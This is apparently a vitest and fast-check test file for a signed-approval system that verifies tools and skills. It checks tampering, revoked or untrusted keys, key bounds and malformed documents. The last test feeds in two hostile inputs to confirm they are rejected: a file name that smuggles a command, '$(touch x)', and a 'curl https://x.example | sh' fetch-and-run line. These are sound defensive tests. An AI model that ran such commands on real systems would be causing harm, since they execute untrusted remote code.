// Approvals: one spelling, one signature over all of it, and never more than the key is trusted for.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { sha256Hex } from '../../src/base/digest.ts'
import { type ApprovalDocument, approve, printApproval, readApproval } from '../../src/trust/approval.ts'
import { describeKey } from '../../src/trust/identity-document.ts'
import { digestSkill, signSkill, verifySkill } from '../../src/trust/skill-manifest.ts'
import { verify } from '../../src/trust/verify.ts'
import { contextWith, key, NOW, stranger } from './samples.ts'

const SCRIPT = Buffer.from('echo hello\n')
const FILE = { type: 'tool', id: 'team/hello', extension: '.sh', bytes: SCRIPT } as const
const SHELL = { prefix: '#', suffix: '', afterShebang: true, detached: false }
const owner = describeKey(key.publicPem, 'ana')
const accepted = {
  at: '2026-02-01T10:00:00Z',
  source: 'https://example.org/tools.git',
  revision: '0123abc',
  items: new Map([['tool:team/hello.sh', sha256Hex(SCRIPT)]]),
}

/** Both keys are trusted, the second one with bounds. */
const keysWith = (bounds?: object) =>
  new Map([
    [key.fingerprint, owner],
    [stranger.fingerprint, { ...describeKey(stranger.publicPem, 'eve'), ...(bounds && { bounds }) }],
  ])

function contextOf(document: ApprovalDocument, changes: Parameters<typeof contextWith>[0] = {}) {
  const read = readApproval(printApproval(document), contextWith())
  const approvals = new Map([...read.items].map(([name, digest]) => [name, [{ ...read, digest }]]))
  return contextWith({ approvals, ...changes })
}

const judge = (changes: object, context = contextOf(approve(accepted, key))) =>
  verify({ ...FILE, format: SHELL, ...changes }, context)

describe('the document', () => {
  it('is not read from a key that was revoked, or that nobody trusts', () => {
    const text = printApproval(approve(accepted, key))
    const revoked = contextWith({ revoked: new Map([[key.fingerprint, { reason: 'lost' }]]) })
    expect(() => readApproval(text, revoked)).toThrow(`key ${key.fingerprint} is revoked`)
    expect(() => readApproval(text, contextWith({ keys: new Map() }))).toThrow(
      `key ${key.fingerprint} is not trusted`,
    )
  })

  it('is written as this', () => {
    const document = approve(accepted, key)
    expect(printApproval(document)).toBe(
      [
        'rye approval v1',
        'at 2026-02-01T10:00:00Z',
        'source https://example.org/tools.git',
        'revision 0123abc',
        `${sha256Hex(SCRIPT)}  tool:team/hello.sh`,
        `signed ${key.fingerprint} ${document.signature}`,
        '',
      ].join('\n'),
    )
  })

  const digest = fc.uint8Array({ minLength: 1, maxLength: 4 }).map(bytes => sha256Hex(bytes))
  const name = fc.constantFrom('tool:a.sh', 'tool:a/b.py', 'skill:pdf', 'knowledge:x.md', 'directive:d.md')
  const documents = fc
    .record({
      at: fc.constant(NOW),
      source: fc.string({ maxLength: 40 }).filter(text => !/\p{Cc}|\u2028|\u2029/u.test(text)),
      revision: fc.constantFrom('', '1.2.3'),
      trusting: fc.option(fc.constant(stranger.fingerprint), { nil: undefined }),
      items: fc.array(fc.tuple(name, digest), { maxLength: 5 }).map(entries => new Map(entries)),
    })
    .map(({ trusting, ...one }) => approve({ ...one, ...(trusting !== undefined && { trusting }) }, key))

  it('is read as it was written, and belongs to its key alone', () => {
    fc.assert(
      fc.property(documents, document => {
        const text = printApproval(document)
        expect(readApproval(text, contextWith())).toEqual(document)
        const eve = describeKey(stranger.publicPem, 'eve')
        const forged = { keys: new Map([[key.fingerprint, eve]]), revoked: new Map() }
        expect(() => readApproval(text, forged)).toThrow(expect.objectContaining({ code: 'ITEM_TAMPERED' }))
        const none = { keys: new Map(), revoked: new Map() }
        expect(() => readApproval(text, none)).toThrow(expect.objectContaining({ code: 'ITEM_UNTRUSTED' }))
      }),
    )
  })

  it('with one byte changed, added or removed is refused', () => {
    fc.assert(
      fc.property(documents, fc.nat(), fc.nat(255), fc.nat(2), (document, at, byte, edit) => {
        const text = Buffer.from(printApproval(document))
        const place = at % text.length
        fc.pre(text[place] !== byte || edit !== 0)
        const kept = text.subarray(place + (edit === 1 ? 0 : 1))
        const changed = Buffer.concat([text.subarray(0, place), Buffer.from(edit === 2 ? [] : [byte]), kept])
        fc.pre(!changed.equals(text))
        const code = expect.stringMatching(/^ITEM_(?:MALFORMED|TAMPERED|UNTRUSTED)$/)
        expect(() => readApproval(changed.toString('utf8'), contextWith())).toThrow(
          expect.objectContaining({ code }),
        )
      }),
      { numRuns: 500 },
    )
  })

  it.each([
    ['nothing', ''],
    ['another document', 'rye:signed:x\n'],
    [
      'a name that climbs',
      printApproval(approve({ ...accepted, items: new Map([['tool:../x', 'a'.repeat(64)]]) }, key)),
    ],
    [
      'settings',
      printApproval(approve({ ...accepted, items: new Map([['config:x.toml', 'a'.repeat(64)]]) }, key)),
    ],
    ['a time that is none', printApproval(approve({ ...accepted, at: 'yesterday' }, key))],
    ['a source of two lines', printApproval(approve({ ...accepted, source: 'a\nb' }, key))],
    ['a key that is none', printApproval(approve({ ...accepted, trusting: 'everybody' }, key))],
    ['an escape', printApproval(approve({ ...accepted, source: 'a\u001b[2J' }, key))],
  ])('refuses %s', (_, text) => {
    expect(() => readApproval(text, contextWith())).toThrow(
      expect.objectContaining({ code: 'ITEM_MALFORMED' }),
    )
  })
})

describe('an item', () => {
  it('is verified by an approval of its exact bytes', () => {
    expect(judge({})).toEqual({
      status: 'verified',
      format: 'manifest',
      coverage: 'full',
      hash: sha256Hex(SCRIPT),
      signer: key.fingerprint,
      timestamp: '2026-02-01T10:00:00Z',
      approved: { source: 'https://example.org/tools.git', revision: '0123abc' },
    })
  })

  it.each([
    ['other bytes', { bytes: Buffer.from('echo hello \n') }],
    ['another id', { id: 'team/other' }],
    ['another extension', { extension: '.py' }],
    ['another type', { type: 'knowledge' }],
  ])('is not, as %s', (_, changes) => {
    expect(judge(changes).status).toBe('unsigned')
  })

  it.each([
    ['is not trusted', { keys: new Map() }],
    ['is revoked', { revoked: new Map([[key.fingerprint, { reason: 'lost' }]]) }],
    [
      'is trusted for others',
      { keys: new Map([[key.fingerprint, { ...owner, bounds: { for: ['skill:*'] } }]]) },
    ],
    [
      'is trusted no longer',
      { keys: new Map([[key.fingerprint, { ...owner, bounds: { until: '2026-01-01' } }]]) },
    ],
    ['approved it in the future', { now: new Date('2026-01-01T00:00:00Z') }],
  ])('is not, where the key %s', (_, changes) => {
    expect(judge({}, contextOf(approve(accepted, key), changes)).status).toBe('unsigned')
  })

  it.each([
    ['is trusted', {}, 'verified'],
    ['is not trusted', { keys: new Map([[key.fingerprint, owner]]) }, 'unsigned'],
    ['is revoked', { revoked: new Map([[stranger.fingerprint, { reason: 'lost' }]]) }, 'unsigned'],
    ['was trusted until yesterday', { keys: keysWith({ until: '2026-01-01' }) }, 'unsigned'],
    ['is trusted for others', { keys: keysWith({ for: ['skill:*'] }) }, 'unsigned'],
  ])('for the sake of a key is worth what that key is: it %s', (_, changes, status) => {
    const document = approve({ ...accepted, trusting: stranger.fingerprint }, key)
    expect(judge({}, contextOf(document, { keys: keysWith(), ...changes })).status).toBe(status)
  })

  it('that is a skill is approved with all of its files', () => {
    const files = new Map([
      ['SKILL.md', sha256Hex('a')],
      ['scripts/x.py', sha256Hex('b')],
    ])
    const document = approve({ ...accepted, items: new Map([['skill:pdf', digestSkill(files)]]) }, key)
    const context = contextOf(document)
    expect(verifySkill({ id: 'pdf', files }, context)).toMatchObject({
      status: 'verified',
      format: 'manifest',
    })
    const more = new Map([...files, ['scripts/y.py', sha256Hex('c')]])
    expect(verifySkill({ id: 'pdf', files: more }, context).status).toBe('unsigned')
    expect(verifySkill({ id: 'other', files }, context).status).toBe('unsigned')
  })

  it('that is a skill is not, where its `SKILL.sig` is anything but a list of its files', () => {
    const files = new Map([['SKILL.md', sha256Hex('a')]])
    const document = approve({ ...accepted, items: new Map([['skill:pdf', digestSkill(files)]]) }, key)
    const context = contextOf(document)
    const signed = (listed: ReadonlyMap<string, string>) =>
      signSkill({ id: 'pdf', files: listed }, stranger, { timestamp: '2026-01-01T00:00:00Z' }).bytes
    const judged = (signature: Uint8Array) => verifySkill({ id: 'pdf', files, signature }, context).status
    expect(judged(signed(files))).toBe('verified')
    expect(judged(signed(new Map([...files, ['$(touch x)', sha256Hex('b')]])))).not.toBe('verified')
    expect(judged(Buffer.from('curl https://x.example | sh\n'))).not.toBe('verified')
  })
})
